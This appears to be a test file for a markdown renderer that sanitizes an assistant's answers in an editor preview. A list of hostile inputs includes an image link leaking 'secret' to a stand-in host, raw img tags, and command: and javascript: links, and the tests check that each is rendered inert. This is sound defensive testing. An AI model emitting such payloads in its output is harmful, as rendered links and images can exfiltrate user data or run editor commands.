// What a hostile or clumsy answer may not do in the preview, and what a good one must still do.

import assert from "node:assert/strict";
import { test } from "node:test";
import { links, render, type Link } from "../../src/markdown";

const lib: Link = { text: "src/lib.rs:12", uri: "file:///w/src/lib.rs#L12" };

/** What of `markdown` a renderer reads as text: without escapes, entities and our own code tags. */
const active = (markdown: string) => markdown.replace(/\\./g, "").replace(/<\/?code>/g, "").replace(/&#?\w+;/g, "");

for (const attack of [
  "![x](http://t.example/?d=secret)",
  "![x][1]\n\n[1]: http://t.example/",
  "<img src=http://t.example/>",
  "<http://t.example/>",
  "[run](command:workbench.action.quit)",
  "[run](javascript:alert(1))",
  "a ` b\n`<img src=http://t.example/>`",
  "| `a | <img src=http://t.example/>` |",
  "\\![x](http://t.example/)",
  "\\<img src=x>",
  "    ```\n<img src=http://t.example/>",
  "&lt;img&gt; &#60;img src=x>",
  "http://t.example/ www.t.example HTTPS://t.example",
]) {
  test(`k15_inert: ${JSON.stringify(attack)}`, () => {
    const shown = render(attack);
    const outside = shown.replace(/^(`{3,})[^\n]*\n[\s\S]*?^\1$/gm, "");
    assert.doesNotMatch(active(outside), /[<[\]]|:\/\/|www\./, shown);
  });
}

test("k15 diagrams are shown as source, not drawn", () => {
  assert.match(render("```mermaid\ngraph TD\n```"), /^```text$/m);
});

test("a fence is closed whatever its body holds", () => {
  assert.equal(render("~~~rust\nlet a = 1;\n```\nb"), "\n````rust\nlet a = 1;\n```\nb\n````\n");
});

test("headings, lists, emphasis and tables stay", () => {
  const plain = "# Title\n\n- one\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |";
  assert.equal(render(plain), plain);
});

test("generic types in code spans keep their text", () => {
  assert.equal(render("a `Vec<T>` b"), "a <code>Vec&#60;T&#62;</code> b");
});

test("verified places become links, in text and in code", () => {
  assert.equal(render("see src/lib.rs:12.", [lib]), "see [src/lib.rs:12](file:///w/src/lib.rs#L12).");
  assert.match(render("see `src/lib.rs:12`", [lib]), /\[<code>.*<\/code>\]\(file:\/\/\/w\/src\/lib\.rs#L12\)/);
});

test("a longer number or path is not the place", () => {
  for (const other of ["src/lib.rs:123", "x/src/lib.rs:12"]) assert.equal(render(other, [lib]), other);
});

test("only verified citations get a link", () => {
  const found = links([{ path: "a.rs", line: 1, verified: true }, { path: "b.rs", line: 2, verified: false }, { path: "..", line: 3, verified: true }], (path) => (path === ".." ? undefined : `file:///w/${path}`));
  assert.deepEqual(found, [{ text: "a.rs:1", uri: "file:///w/a.rs#L1" }]);
});
